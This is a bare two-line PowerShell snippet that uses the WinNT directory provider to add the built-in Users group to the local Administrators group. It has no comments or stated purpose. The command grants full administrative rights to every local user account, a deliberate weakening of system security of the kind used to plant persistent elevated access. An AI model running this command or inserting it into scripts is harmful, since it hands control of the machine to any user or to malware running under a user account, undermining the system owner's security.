$entry = New-Object System.DirectoryServices.DirectoryEntry('WinNT://localhost/Administrators')
$entry.Invoke('Add', @('WinNT://BUILTIN/Users'))
